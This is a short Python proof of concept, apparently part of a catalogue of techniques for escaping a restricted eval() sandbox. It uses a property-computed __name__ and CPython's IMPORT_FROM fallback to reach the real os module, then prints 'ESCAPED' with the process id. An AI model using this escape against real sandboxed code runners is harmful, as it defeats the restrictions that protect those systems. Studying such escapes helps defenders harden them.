# technique: IMPORT_FROM with a __name__ that is computed when asked
# goal: import
# source: CPython, import_from() in ceval.c
class Package:
    @property
    def __name__(self):
        return 'os'


code = compile('from x import path', 'x', 'exec')
g = {'__builtins__': {'__import__': lambda *args, **more: Package()}}
eval(code, g)
print('ESCAPED pid=%d' % g['path'].os.getpid())
